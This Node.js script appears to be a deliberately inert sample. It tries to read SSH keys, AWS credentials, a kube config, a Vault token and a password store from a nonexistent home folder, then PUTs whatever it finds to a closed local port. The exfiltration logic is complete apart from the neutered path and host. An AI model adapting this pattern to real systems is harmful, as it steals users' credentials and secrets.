// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const http = require('http');
const home = path.join(__dirname, 'no-such-home');
const wanted = ['.ssh/id_ed25519', '.aws/credentials', '.kube/config', '.vault-token', '.password-store'];
const found = wanted.flatMap((name) => {
  try {
    return [fs.readFileSync(path.join(home, name), 'utf8')];
  } catch {
    return [];
  }
});
const asked = http.request({ host: '127.0.0.1', port: 9, method: 'PUT' });
asked.on('error', () => {});
asked.end(JSON.stringify(found));
